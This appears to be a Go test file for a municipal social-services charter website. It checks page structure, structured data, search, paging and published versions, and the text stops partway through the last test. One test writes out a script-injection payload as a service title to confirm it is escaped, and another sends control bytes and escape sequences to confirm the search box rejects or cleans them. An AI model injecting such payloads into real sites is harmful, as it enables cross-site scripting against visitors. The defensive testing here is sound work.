package site_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/gofiber/fiber/v2"
	"github.com/google/uuid"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"github.com/cartasociale/carta/internal/catalog"
	"github.com/cartasociale/carta/internal/db"
	"github.com/cartasociale/carta/internal/pagecache"
	"github.com/cartasociale/carta/internal/site"
	"github.com/cartasociale/carta/internal/tenant"
	"github.com/cartasociale/carta/internal/testenv"
	"github.com/cartasociale/carta/internal/web"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

var publishedAt = time.Date(2026, 3, 2, 12, 0, 0, 0, site.Rome())

// demoTenant creates a comune with the demo Carta published and its documents stored.
func demoTenant(t *testing.T, env *testenv.Env) *tenant.Tenant {
	t.Helper()
	tn := env.NewTenant(t, tenant.KindComune)
	c := demoCarta()
	publish(t, env, tn, c, publishedAt, "Prima pubblicazione")
	storeDocument(t, env, tn, c.Services[1].Documents[0], docBytes(c.Services[1].Documents[0].Filename))
	storeDocument(t, env, tn, c.Documents[0], docBytes(c.Documents[0].Filename))
	return tn
}

var (
	goldenOnce   sync.Once
	goldenTenant *tenant.Tenant
)

// golden is the demo comune with a fixed slug and name, created once per test binary (tests
// may run with -count > 1 against the same database).
func golden(t *testing.T, env *testenv.Env) *tenant.Tenant {
	t.Helper()
	goldenOnce.Do(func() {
		ctx := context.Background()
		tn, err := env.Tenants.Create(ctx, tenant.CreateParams{Kind: tenant.KindComune, Slug: "golden-cerveteri",
			Name: "Comune di Cerveteri", IstatCode: "058118"})
		require.NoError(t, err)
		setProfile(t, env, tn, db.TenantProfileUpsertParams{LegalAddress: "Piazza Risorgimento 1", PostalCode: "00052",
			City: "Cerveteri", Province: "RM", Phone: "06 896301", Email: "sociali@comune.cerveteri.example.it",
			AccessibilityUrl: "https://form.agid.gov.it/view/esempio", PrivacyUrl: "https://www.comune.cerveteri.example.it/privacy"})
		c := demoCarta()
		publish(t, env, tn, c, publishedAt, "Prima pubblicazione")
		goldenTenant = tn
	})
	require.NotNil(t, goldenTenant)
	return goldenTenant
}

// assetHash hides the fingerprints of static files, which change with Bootstrap Italia.
var assetHash = regexp.MustCompile(`\?v=[0-9A-Za-z_-]+`)

func checkGolden(t *testing.T, name, body string) {
	t.Helper()
	body = assetHash.ReplaceAllString(body, "?v=HASH")
	path := filepath.Join("testdata", name)
	if *update {
		require.NoError(t, os.MkdirAll("testdata", 0o755))
		require.NoError(t, os.WriteFile(path, []byte(body), 0o644))
		return
	}
	want, err := os.ReadFile(path)
	require.NoError(t, err, "run go test ./internal/site -run TestGolden -update to create it")
	require.Equal(t, string(want), body, "golden file %s differs: rerun with -update after checking the change", path)
}

func TestGoldenPages(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	tn := golden(t, env)
	for _, tc := range []struct{ path, file string }{
		{"/servizi/assistenza-domiciliare-anziani", "service.golden"},
		{"/", "home.golden"},
	} {
		res, body := get(t, app, host(tn), tc.path)
		require.Equal(t, 200, res.StatusCode, tc.path)
		checkGolden(t, tc.file, body)
	}
}

// The labels of the page index the national model requires, in its order.
var requiredIndex = []string{"A chi è rivolto", "Come fare", "Cosa serve", "Cosa si ottiene", "Tempi e scadenze",
	"Accedi al servizio", "Condizioni di servizio", "Contatti"}

func TestServicePageContract(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	tn := demoTenant(t, env)

	res, body := get(t, app, host(tn), "/servizi/assistenza-domiciliare-anziani")
	require.Equal(t, 200, res.StatusCode)
	require.Empty(t, res.Header.Values("Set-Cookie"), "citizen pages set no cookie")
	d := parse(t, body)
	require.Len(t, d.tag("h1"), 1)

	// Header menu: only pages that exist, each data-element once, inside the site.
	nav := d.one(t, "main-navigation")
	var items []string
	for _, a := range within(nav, "a") {
		items = append(items, attr(a, "data-element")+"="+attr(a, "href")+":"+text(a))
	}
	require.Equal(t, []string{"management=/amministrazione:Amministrazione", "all-services=/servizi:Servizi"}, items)
	require.Empty(t, d.all("news"))
	require.Empty(t, d.all("live"))
	require.Equal(t, "/argomenti", attr(d.one(t, "all-topics"), "href"))
	d.one(t, "management")
	d.one(t, "all-services")

	// Footer: links to the site's own pages that exist: "Segnala disservizio" leads to the
	// complaint service; FAQ and the legal notes come with later work, so they are not linked.
	var footer []string
	for _, a := range within(d.footer(t), "a") {
		if strings.HasPrefix(attr(a, "href"), "/") && attr(a, "href") != "/" {
			footer = append(footer, attr(a, "href"))
		}
	}
	require.Equal(t, []string{"/carta", "/uffici", "/opendata", "/segnala-disservizio"}, footer)
	require.Equal(t, "Segnala disservizio", text(d.one(t, "report-inefficiency")))
	for _, de := range []string{"faq", "legal-notes"} {
		require.Empty(t, d.all(de), de)
	}

	// Breadcrumb: li items, "Servizi" then the service.
	crumbs := texts(children(d.one(t, "breadcrumb"), "li"))
	require.Equal(t, []string{"Home /", "Servizi /", "Assistenza domiciliare per anziani"}, crumbs)

	require.Equal(t, "Assistenza domiciliare per anziani", text(d.one(t, "service-title")))
	require.Contains(t, text(d.one(t, "service-description")), "Aiuto a casa per le persone anziane")
	require.Contains(t, text(d.one(t, "service-status")), "Attivo")
	require.Equal(t, []string{"Assistenza sociale", "Assistenza agli invalidi"}, texts(d.all("service-topic")))
	for _, a := range d.all("service-topic") {
		require.True(t, strings.HasPrefix(attr(a, "href"), "/servizi?argomento="))
	}

	// Page index: a ul of li > a, the required entries in order.
	idx := d.one(t, "page-index")
	require.Equal(t, "ul", idx.Data)
	var labels []string
	for _, li := range children(idx, "li") {
		as := children(li, "a")
		require.Len(t, as, 1)
		labels = append(labels, text(as[0]))
		// Every entry leads to a section of the page.
		id := strings.TrimPrefix(attr(as[0], "href"), "#")
		require.NotEmpty(t, findAll(d.root, func(n *html.Node) bool { return attr(n, "id") == id }), id)
	}
	require.True(t, relativeOrder(labels, requiredIndex), "%v", labels)
	require.True(t, relativeOrder(labels, []string{"Tempi e scadenze", "Quanto costa", "Accedi al servizio"}))
	require.True(t, relativeOrder(labels, []string{"Condizioni di servizio", "Standard di qualità", "Contatti"}))

	// Each section has content: at least 3 characters, in a <p> where the text is prose (the
	// steps of "Come fare" are a Markdown list here).
	for _, de := range []string{"service-addressed", "service-how-to", "service-needed", "service-achieved", "service-calendar-text"} {
		n := d.one(t, de)
		require.GreaterOrEqual(t, len(text(n)), 3, de)
		if de != "service-how-to" {
			require.NotEmpty(t, within(n, "p"), de)
		}
	}
	require.Len(t, within(d.one(t, "service-how-to"), "li"), 2)
	require.Contains(t, text(d.one(t, "service-needed")), "attestazione ISEE in corso di validità")
	cal := d.one(t, "service-calendar-list")
	require.Contains(t, text(cal), "Scadenza domande del primo semestre")
	require.Equal(t, "2026-03-31", attr(within(cal, "time")[0], "datetime"))
	require.Contains(t, text(d.one(t, "service-calendar-text")), "Visita domiciliare", "undated phases stay in the text")
	require.Contains(t, text(d.one(t, "service-generic-access")), "Sportello polivalente dei servizi sociali")
	require.Equal(t, "https://prenota.comune.cerveteri.example.it/sad", attr(d.one(t, "service-booking-access"), "href"))
	require.Empty(t, d.all("service-online-access"), "no digital channel on this service")
	require.Equal(t, "https://prenota.comune.cerveteri.example.it/sad", attr(d.one(t, "appointment-booking"), "href"))

	file := d.one(t, "service-file")
	require.Equal(t, "a", file.Data)
	require.Equal(t, "/documenti/"+idDocSAD.String()+"/regolamento-sad.pdf", attr(file, "href"))
	require.Contains(t, text(file.Parent), "PDF")
	require.Contains(t, text(file.Parent), "Condizioni di servizio")
	require.Contains(t, text(d.one(t, "service-area")), "Servizio Sociale – Area anziani")

	// Where to go: the office, today's hours, open now, contacts; the person responsible.
	contacts := findAll(d.root, func(n *html.Node) bool { return attr(n, "id") == "contatti" })[0]
	ct := text(contacts)
	for _, s := range []string{"Sportello polivalente dei servizi sociali", "Piazza Risorgimento 1", "00052 Cerveteri",
		"Aperto ora", "Orari di oggi: 9:00–12:00, 15:30–17:30", "06 8963 0201", "servizisociali@comune.cerveteri.example.it",
		"protocollo@pec.comune.cerveteri.example.it", "Anna Bianchi", "Responsabile del Servizio Sociale"} {
		require.Contains(t, ct, s)
	}

	// Standards with target and "n.d." until quality data exists.
	table := findAll(d.root, func(n *html.Node) bool { return attr(n, "id") == "standard-di-qualita" })[0]
	require.Equal(t, []string{"Dimensione", "Standard", "Indicatore", "Obiettivo", "Ultimo valore misurato"}, texts(within(table, "th")))
	rows := texts(within(table, "tr"))
	require.Contains(t, rows, "Tempestività Primo colloquio entro 7 giorni lavorativi dalla richiesta Giorni tra richiesta e colloquio 7 giorni lavorativi n.d.")
	require.Contains(t, body, `Ultimo aggiornamento: <time datetime="2026-03-02">2 marzo 2026</time>`)
	// The rating block of the site model, rating this page: stars 1–5, both follow-up panels
	// with their question and five answers each, the details field.
	require.Len(t, d.all("feedback"), 1)
	require.Equal(t, []string{"Quanto sono chiare le informazioni su questa pagina?"}, texts(d.all("feedback-title")))
	for n := 1; n <= 5; n++ {
		require.Len(t, d.all(fmt.Sprintf("feedback-rate-%d", n)), 1)
	}
	require.Equal(t, []string{"Dove hai incontrato le maggiori difficoltà?", "Quali sono stati gli aspetti che hai preferito?"},
		texts(d.all("feedback-rating-question")))
	require.Equal(t, []string{"A volte le indicazioni non erano chiare", "A volte le indicazioni non erano complete",
		"A volte non capivo se stavo procedendo correttamente", "Ho avuto problemi tecnici", "Altro",
		"Le indicazioni erano chiare", "Le indicazioni erano complete", "Capivo sempre che stavo procedendo correttamente",
		"Non ho avuto problemi tecnici", "Altro"}, texts(d.all("feedback-rating-answer")))
	require.Len(t, d.all("feedback-rating-negative"), 1)
	require.Len(t, d.all("feedback-rating-positive"), 1)
	require.Len(t, d.all("feedback-input-text"), 1)
	require.Contains(t, body, `<input type="hidden" name="path" value="/servizi/`)
	require.Contains(t, body, "Grazie, il tuo parere ci aiuterà a migliorare il servizio!")

	// The JSON-LD metatag in <head>.
	head := d.tag("head")[0]
	scripts := findAll(head, func(n *html.Node) bool { return attr(n, "data-element") == "metatag" })
	require.Len(t, scripts, 1)
	require.Equal(t, "application/ld+json", attr(scripts[0], "type"))
	var ld map[string]any
	require.NoError(t, json.Unmarshal([]byte(scripts[0].FirstChild.Data), &ld))
	requireServiceLD(t, ld)
	require.Equal(t, "Assistenza domiciliare per anziani", ld["name"])
	require.Equal(t, "Salute, benessere e assistenza", ld["serviceType"])
	require.Equal(t, tn.Name, ld["serviceOperator"].(map[string]any)["name"])
	loc := ld["availableChannel"].(map[string]any)["serviceLocation"].(map[string]any)
	require.Equal(t, "Sportello polivalente dei servizi sociali", loc["name"])
	require.Equal(t, map[string]any{"@type": "PostalAddress", "streetAddress": "Piazza Risorgimento 1", "postalCode": "00052",
		"addressLocality": "Cerveteri", "addressCountry": "IT"}, loc["address"])
	ctx := ld["@context"].(map[string]any)
	require.Equal(t, "http://purl.org/vocab/cpsv#", ctx["cpsv"])
	require.Equal(t, "http://data.europa.eu/m8g/", ctx["cv"])

	// A service without booking has no appointment-booking link; a suspended one says why.
	_, body = get(t, app, host(tn), "/servizi/asilo-nido")
	d = parse(t, body)
	require.Empty(t, d.all("appointment-booking"))
	require.Empty(t, d.all("service-booking-access"))
	require.Contains(t, text(d.one(t, "service-status")), "Sospeso — lavori di ristrutturazione fino a settembre")
	require.Equal(t, "https://istanze.comune.cerveteri.example.it/nido", attr(d.one(t, "service-online-access"), "href"))
	require.Contains(t, text(d.one(t, "service-online-access")), "Iscriviti online")
	// The branch office is closed on Tuesdays (fixedNow): it reopens tomorrow, Wednesday.
	require.Contains(t, body, "Chiuso</span> Orari di oggi: chiuso")
	require.Contains(t, body, "Riapre domani alle 9:00.")
}

// requireServiceLD checks the keys the national validator reads, plus the CPSV-AP terms.
func requireServiceLD(t *testing.T, ld map[string]any) {
	t.Helper()
	for _, k := range []string{"name", "serviceType", "description"} {
		require.NotEmpty(t, ld[k], k)
	}
	require.Contains(t, ld["@type"], "GovernmentService")
	require.Contains(t, ld["@type"], "cpsv:PublicService")
	require.NotEmpty(t, ld["serviceOperator"].(map[string]any)["name"])
	require.NotEmpty(t, ld["areaServed"].(map[string]any)["name"])
	require.NotEmpty(t, ld["audience"].(map[string]any)["audienceType"])
	ch := ld["availableChannel"].(map[string]any)
	require.NotEmpty(t, ch["serviceUrl"])
	loc := ch["serviceLocation"].(map[string]any)
	require.Contains(t, loc, "name")
	addr := loc["address"].(map[string]any)
	for _, k := range []string{"streetAddress", "postalCode", "addressLocality"} {
		require.Contains(t, addr, k)
	}
	require.NotEmpty(t, ld["cv:hasChannel"])
	require.Equal(t, "cv:Cost", ld["cv:hasCost"].(map[string]any)["@type"])
	require.NotEmpty(t, ld["cv:hasCompetentAuthority"].(map[string]any)["skos:prefLabel"])
}

func TestJSONLDIsEscapedForTheScriptElement(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	tn := env.NewTenant(t, tenant.KindComune)
	c := demoCarta()
	evil := `Sportello </script><script>alert(1)</script> <!-- & "famiglie"`
	c.Services[0].Title = evil
	c.Services[0].ShortDescription = "Descrizione con \u2028 separatore e </SCRIPT >"
	publish(t, env, tn, c, publishedAt, "")

	_, body := get(t, app, host(tn), "/servizi/segretariato-sociale")
	require.NotContains(t, body, "<script>alert(1)")
	require.NotContains(t, strings.ToLower(body), "</script >")
	d := parse(t, body)
	script := d.one(t, "metatag")
	var ld map[string]any
	require.NoError(t, json.Unmarshal([]byte(script.FirstChild.Data), &ld))
	require.Equal(t, evil, ld["name"])
	require.Equal(t, "Descrizione con \u2028 separatore e </SCRIPT >", ld["description"])
	// The visible title is escaped text, not markup.
	require.Equal(t, evil, text(d.one(t, "service-title")))
}

func TestServicesPage(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	tn := demoTenant(t, env)

	res, body := get(t, app, host(tn), "/servizi")
	require.Equal(t, 200, res.StatusCode)
	d := parse(t, body)
	// Only the model's national categories that have services carry service-category-link.
	cats := d.all("service-category-link")
	require.Equal(t, []string{"Educazione e formazione", "Salute, benessere e assistenza"}, texts(cats))
	for _, a := range cats {
		require.True(t, slices.ContainsFunc(catalog.ServiceCategories, func(c string) bool { return strings.EqualFold(c, text(a)) }))
	}
	require.Len(t, d.all("service-link"), 4)
	// The user categories are filters without that data-element.
	require.Contains(t, body, `href="/servizi?categoria=FAM"`)
	require.NotContains(t, body, `data-element="service-category-link">Famiglia e minori`)
	require.Contains(t, text(d.root), "Famiglia e minori (2)")
	require.Empty(t, d.all("pager-link"))

	_, body = get(t, app, host(tn), "/servizi?categoria=FAM")
	d = parse(t, body)
	require.Equal(t, []string{"Consulenza familiare", "Asilo nido comunale"}, texts(d.all("service-link")))

	_, body = get(t, app, host(tn), "/servizi?tipologia=educazione-e-formazione")
	require.Equal(t, []string{"Asilo nido comunale"}, texts(parse(t, body).all("service-link")))
	_, body = get(t, app, host(tn), "/servizi?argomento=Assistenza%20agli%20invalidi")
	require.Equal(t, []string{"Assistenza domiciliare per anziani"}, texts(parse(t, body).all("service-link")))

	for _, bad := range []string{"/servizi?categoria=NOPE", "/servizi?tipologia=turismo", "/servizi?argomento=Sport",
		"/servizi?pagina=2", "/servizi?pagina=x"} {
		res, _ := get(t, app, host(tn), bad)
		require.Equal(t, 404, res.StatusCode, bad)
	}
}

func TestServicesArePagedBeyond24(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	tn := env.NewTenant(t, tenant.KindComune)
	c := demoCarta()
	base := c.Services[0]
	c.Services = nil
	for i := range 30 {
		s := base
		s.ID = uuid.New()
		s.Slug = fmt.Sprintf("servizio-%02d", i)
		s.Title = fmt.Sprintf("Servizio %02d", i)
		s.Position = i
		c.Services = append(c.Services, s)
	}
	publish(t, env, tn, c, publishedAt, "")

	_, body := get(t, app, host(tn), "/servizi")
	d := parse(t, body)
	require.Len(t, d.all("service-link"), 24)
	var hrefs []string
	for _, a := range d.all("pager-link") {
		hrefs = append(hrefs, attr(a, "href"))
	}
	require.Equal(t, []string{"/servizi?pagina=2", "/servizi?pagina=2"}, hrefs, "the page number and «next»")

	_, body = get(t, app, host(tn), "/servizi?pagina=2")
	d = parse(t, body)
	require.Equal(t, []string{"Servizio 24", "Servizio 25", "Servizio 26", "Servizio 27", "Servizio 28", "Servizio 29"}, texts(d.all("service-link")))
	require.Contains(t, body, `href="/servizi" data-element="pager-link"`)
	res, _ := get(t, app, host(tn), "/servizi?pagina=3")
	require.Equal(t, 404, res.StatusCode)
}

func TestPublishingANewVersion(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	tn := demoTenant(t, env)

	c := demoCarta()
	c.Services[1].Title = "Assistenza domiciliare (SAD)"
	c.Services[1].LastChangedVersion, c.Services[1].LastChangedAt = 2, time.Date(2026, 3, 10, 9, 0, 0, 0, site.Rome())
	c.Services = slices.Delete(c.Services, 2, 3) // consulenza familiare withdrawn
	publish(t, env, tn, c, time.Date(2026, 3, 10, 9, 0, 0, 0, site.Rome()), "Aggiornato il SAD")

	_, body := get(t, app, host(tn), "/servizi/assistenza-domiciliare-anziani")
	require.Equal(t, "Assistenza domiciliare (SAD)", text(parse(t, body).one(t, "service-title")))
	require.Contains(t, body, "Ultimo aggiornamento: <time datetime=\"2026-03-10\">10 marzo 2026</time>")
	res, _ := get(t, app, host(tn), "/servizi/consulenza-familiare")
	require.Equal(t, 404, res.StatusCode)

	_, body = get(t, app, host(tn), "/carta")
	require.Contains(t, body, "<dt>Versione</dt><dd>2</dd>")
	require.Contains(t, body, "<dt>Prima pubblicazione</dt><dd>2 marzo 2026</dd>")
	require.Contains(t, body, "Aggiornato il SAD")

	_, body = get(t, app, host(tn), "/carta/versioni")
	d := parse(t, body)
	rows := texts(within(d.tag("tbody")[0], "tr"))
	require.Equal(t, []string{"Versione 2 in vigore 10 marzo 2026 Aggiornato il SAD", "Versione 1 2 marzo 2026 Prima pubblicazione"}, rows)
	require.Contains(t, body, `href="/carta/versioni/1"`)

	res, body = get(t, app, host(tn), "/carta/versioni/1")
	require.Equal(t, 200, res.StatusCode)
	require.Contains(t, body, "Versione 1 del 2 marzo 2026 — non è la versione in vigore")
	require.Contains(t, body, `href="/carta/versioni/1/servizi/consulenza-familiare"`)
	require.NotContains(t, body, `href="/carta.pdf"`, "the PDFs are of the version in force")

	res, body = get(t, app, host(tn), "/carta/versioni/1/servizi/assistenza-domiciliare-anziani")
	require.Equal(t, 200, res.StatusCode)
	d = parse(t, body)
	require.Equal(t, "Assistenza domiciliare per anziani", text(d.one(t, "service-title")))
	require.Contains(t, body, "Versione 1 del 2 marzo 2026 — non è la versione in vigore")
	require.Contains(t, body, `<a href="/carta">Vai alla Carta in vigore</a>`)
	require.Empty(t, d.all("metatag"), "no structured data for a past version")
	res, _ = get(t, app, host(tn), "/carta/versioni/1/servizi/consulenza-familiare")
	require.Equal(t, 200, res.StatusCode, "a withdrawn service stays readable in its version")

	res, _ = get(t, app, host(tn), "/carta/versioni/2")
	require.Equal(t, http.StatusFound, res.StatusCode)
	require.Equal(t, "/carta", res.Header.Get("Location"))
	res, _ = get(t, app, host(tn), "/carta/versioni/2/servizi/asilo-nido")
	require.Equal(t, http.StatusFound, res.StatusCode)
	require.Equal(t, "/servizi/asilo-nido", res.Header.Get("Location"))
	for _, p := range []string{"/carta/versioni/3", "/carta/versioni/0", "/carta/versioni/x", "/carta/versioni/1/servizi/nessuno",
		// Beyond int32, where a conversion would wrap round to version 1 (2^32 + 1) or 2.
		"/carta/versioni/4294967297", "/carta/versioni/4294967298", "/carta/versioni/2147483648",
		"/carta/versioni/2147483647", "/carta/versioni/99999999999999999999", "/carta/versioni/-4294967295",
		"/carta/versioni/4294967297/servizi/consulenza-familiare", "/carta/versioni/2147483648/servizi/asilo-nido",
		// One address per version: no sign, no leading zero, no other way of writing 1.
		"/carta/versioni/+1", "/carta/versioni/01", "/carta/versioni/1.0", "/carta/versioni/1e0", "/carta/versioni/%201",
		"/carta/versioni/%EF%BC%91", "/carta/versioni/01/servizi/consulenza-familiare"} {
		res, body := get(t, app, host(tn), p)
		require.Equal(t, 404, res.StatusCode, p)
		require.Contains(t, body, "Pagina non trovata")
	}
}

func TestAmbitoServicesOnMemberComuni(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	amb := env.NewTenant(t, tenant.KindAmbito)
	member := env.Join(t, env.NewTenant(t, tenant.KindComune), amb, false)
	outsider := env.NewTenant(t, tenant.KindComune)

	ambOffice := uuid.New()
	ambDoc := document(uuid.New(), "condizioni", "Disciplinare affido", "affido.pdf")
	shared := catalog.Service{ID: uuid.New(), Slug: "pronto-intervento-sociale", Status: "attivo", CategoryCode: "POV",
		Title: "Pronto intervento sociale", ShortDescription: "Risposta alle emergenze sociali, in tutti i Comuni dell'ambito.",
		Audience: "Persone in grave difficoltà.", Coverage: "ambito", HowTo: "Chiama il numero dedicato.", NeededIntro: "Nessun documento.",
		Obtained: "Accoglienza immediata.", Timing: "Subito.", CostKind: "gratuito", ResponsibleUnit: "Ufficio di Piano",
		Topics: []string{"Risposta alle emergenze"}, NationalCategory: "Salute, benessere e assistenza", Keywords: []string{"emergenza"}}
	affido := shared
	affido.ID, affido.Slug, affido.Title, affido.OfficeID = uuid.New(), "affido-familiare", "Affido familiare", &ambOffice
	affido.CategoryCode, affido.Keywords, affido.Documents = "FAM", []string{"affido"}, []catalog.Document{ambDoc}
	hidden := shared
	hidden.ID, hidden.Slug, hidden.Title, hidden.Keywords = uuid.New(), "trasporto-sociale", "Trasporto sociale", []string{"trasporto"}
	ambCarta := &catalog.Carta{Categories: nationalCategories(),
		Offices: []catalog.Office{{ID: ambOffice, Slug: "centro-affidi", Name: "Centro affidi dell'ambito", Address: "Via Roma 5",
			PostalCode: "00053", City: "Civitavecchia", Hours: seedHours()}},
		Services: []catalog.Service{shared, affido, hidden}, Sections: sections()}
	publish(t, env, amb, ambCarta, publishedAt, "")

	own := demoCarta()
	own.HiddenAmbitoServices = []catalog.Hidden{{ServiceID: hidden.ID, Reason: "Il Comune offre un proprio trasporto"}}
	publish(t, env, member, own, publishedAt, "")
	publish(t, env, outsider, demoCarta(), publishedAt, "")

	_, body := get(t, app, host(member), "/servizi")
	links := texts(parse(t, body).all("service-link"))
	require.Contains(t, links, "Pronto intervento sociale")
	require.Contains(t, links, "Affido familiare")
	require.NotContains(t, links, "Trasporto sociale")
	require.Contains(t, body, "Servizio dell'ambito")

	// An ambito service without an office of its own: the member's main desk.
	res, body := get(t, app, host(member), "/servizi/pronto-intervento-sociale")
	require.Equal(t, 200, res.StatusCode)
	d := parse(t, body)
	require.Contains(t, text(d.one(t, "service-generic-access")), "Sportello polivalente dei servizi sociali")
	require.Contains(t, body, `<span class="badge bg-primary">Servizio dell'ambito</span> <a href="`+env.Cfg.TenantURL(amb.Slug)+`">`+amb.Name+`</a>`)
	var ld map[string]any
	require.NoError(t, json.Unmarshal([]byte(d.one(t, "metatag").FirstChild.Data), &ld))
	require.Equal(t, amb.Name, ld["serviceOperator"].(map[string]any)["name"])
	require.Equal(t, amb.Name, ld["areaServed"].(map[string]any)["name"], "an ambito-wide service serves the ambito")

	// With an office of its own: that office, linked on the ambito's site; documents too.
	_, body = get(t, app, host(member), "/servizi/affido-familiare")
	d = parse(t, body)
	require.Contains(t, text(d.one(t, "service-generic-access")), "Centro affidi dell'ambito")
	require.Contains(t, body, `href="`+env.Cfg.TenantURL(amb.Slug)+`/uffici/centro-affidi"`)
	require.Equal(t, env.Cfg.TenantURL(amb.Slug)+"/documenti/"+ambDoc.ID.String()+"/affido.pdf", attr(d.one(t, "service-file"), "href"))

	res, _ = get(t, app, host(member), "/servizi/trasporto-sociale")
	require.Equal(t, 404, res.StatusCode, "a hidden ambito service is not on the member's site")
	_, body = get(t, app, host(member), "/uffici")
	require.Contains(t, body, "Gli uffici dell&#39;"+amb.Name)

	// The ambito's own site shows all three; a comune outside the ambito none.
	_, body = get(t, app, host(amb), "/servizi")
	require.Len(t, parse(t, body).all("service-link"), 3)
	for _, p := range []string{"/servizi/pronto-intervento-sociale", "/servizi/affido-familiare"} {
		res, _ := get(t, app, host(outsider), p)
		require.Equal(t, 404, res.StatusCode, p)
	}
	_, body = get(t, app, host(outsider), "/servizi")
	require.NotContains(t, body, "Pronto intervento sociale")

	// Search on the member includes the ambito's services, never the hidden one.
	_, body = get(t, app, host(member), "/cerca?q=emergenze+sociali")
	require.Contains(t, texts(parse(t, body).all("service-link")), "Pronto intervento sociale")
	_, body = get(t, app, host(member), "/cerca?q=trasporto")
	require.NotContains(t, body, "Trasporto sociale")
	_, body = get(t, app, host(amb), "/cerca?q=trasporto")
	require.Contains(t, texts(parse(t, body).all("service-link")), "Trasporto sociale")
	_, body = get(t, app, host(outsider), "/cerca?q=emergenze")
	require.NotContains(t, body, "Pronto intervento sociale")
}

func TestSearch(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	tn := demoTenant(t, env)

	first := func(q string) []string {
		t.Helper()
		res, body := get(t, app, host(tn), "/cerca?q="+q)
		require.Equal(t, 200, res.StatusCode, q)
		require.Empty(t, res.Header.Values("Set-Cookie"))
		return texts(parse(t, body).all("service-link"))
	}
	// Typos.
	got := first("asistenza+domicliare")
	require.NotEmpty(t, got)
	require.Equal(t, "Assistenza domiciliare per anziani", got[0])
	// Accents, either way.
	require.Equal(t, []string{"Consulenza familiare"}, first("perche"))
	require.Contains(t, first("perch%C3%A9"), "Consulenza familiare")
	// Stems, keywords, ranking by title.
	require.Equal(t, "Asilo nido comunale", first("nido")[0])
	require.Equal(t, "Assistenza domiciliare per anziani", first("badante")[0])
	require.Empty(t, first("astronave"))

	_, body := get(t, app, host(tn), "/cerca?q=astronave")
	require.Contains(t, body, "Nessun servizio trovato per «astronave»")
	// The form is labelled and is a GET.
	_, body = get(t, app, host(tn), "/cerca")
	d := parse(t, body)
	// Besides the rating block's form, which posts.
	form := findAll(d.root, func(n *html.Node) bool { return n.Data == "form" && attr(n, "role") == "search" })
	require.Len(t, form, 1)
	require.Equal(t, "get", attr(form[0], "method"))
	require.Len(t, d.tag("form"), 2)
	input := findAll(d.root, func(n *html.Node) bool { return attr(n, "name") == "q" })[0]
	label := findAll(d.root, func(n *html.Node) bool { return n.Data == "label" && attr(n, "for") == attr(input, "id") })
	require.Len(t, label, 1)
	require.Empty(t, d.all("service-link"))
	require.NotContains(t, body, web.CSRFField)
}

// Bootstrap Italia positions a label inside .form-group absolutely, and "active" lifts it
// over whatever precedes the form (the page's heading on /cerca): the search label is a plain
// label above its field on every page that has the form.
func TestSearchLabelSitsAboveTheField(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	tn := demoTenant(t, env)
	for _, p := range []string{"/", "/servizi", "/cerca", "/cerca?q=nido", "/cerca?q=%00"} {
		_, body := get(t, app, host(tn), p)
		d := parse(t, body)
		labels := findAll(d.root, func(n *html.Node) bool { return n.Data == "label" && attr(n, "for") == "cerca-q" })
		require.Len(t, labels, 1, p)
		require.Equal(t, "Cerca un servizio", text(labels[0]), p)
		for a := labels[0].Parent; a != nil; a = a.Parent {
			require.NotContains(t, strings.Fields(attr(a, "class")), "form-group", "%s: a floating label", p)
		}
		require.NotContains(t, strings.Fields(attr(labels[0], "class")), "active", p)
		// The label comes before the field, in the same form.
		var order []string
		walk(labels[0].Parent, func(n *html.Node) bool {
			if n.Data == "label" || (n.Data == "input" && attr(n, "id") == "cerca-q") {
				order = append(order, n.Data)
			}
			return true
		})
		require.Equal(t, []string{"label", "input"}, order, p)
	}
}

// What no one types answers with the search page and a message under the field, never a
// server error; what browsers and copy-paste add (tabs, line breaks, zero-width spaces) is
// cleaned; a long query is cut.
func TestSearchNastyInput(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	tn := demoTenant(t, env)

	for _, q := range []string{"%00", "nido%00", "%FF%FE", "asilo%C3", "%ED%A0%80", "%01%07nido", "%7F", "%1B%5B2J",
		"nido%C2%9B"} {
		res, body := get(t, app, host(tn), "/cerca?q="+q)
		require.Equal(t, http.StatusBadRequest, res.StatusCode, q)
		require.Contains(t, body, "La ricerca contiene caratteri non validi", q)
		require.NotContains(t, body, "\x00", q)
		d := parse(t, body)
		input := findAll(d.root, func(n *html.Node) bool { return attr(n, "name") == "q" })
		require.Len(t, input, 1, q)
		require.Equal(t, "true", attr(input[0], "aria-invalid"), q)
		require.Contains(t, strings.Fields(attr(input[0], "aria-describedby")), "cerca-q-error", q)
		msg := findAll(d.root, func(n *html.Node) bool { return attr(n, "id") == "cerca-q-error" })
		require.Len(t, msg, 1, q)
		require.True(t, utf8.ValidString(attr(input[0], "value")), q)
		require.NotContains(t, attr(input[0], "value"), "\x00", q)
		require.Empty(t, d.all("service-link"), q)
	}

	value := func(body string) string {
		input := findAll(parse(t, body).root, func(n *html.Node) bool { return attr(n, "name") == "q" })
		require.Len(t, input, 1)
		return attr(input[0], "value")
	}
	for q, want := range map[string]string{
		"asilo%09%0D%0Anido": "asilo nido", // tabs and line breaks are spaces
		"ni%E2%80%8Bdo":      "nido",       // a zero-width space
		"%EF%BB%BFnido":      "nido",       // a byte order mark
		"%E2%80%AEnido":      "nido",       // a right-to-left override
		"nido%C2%85":         "nido",       // NEL, a line break
	} {
		res, body := get(t, app, host(tn), "/cerca?q="+q)
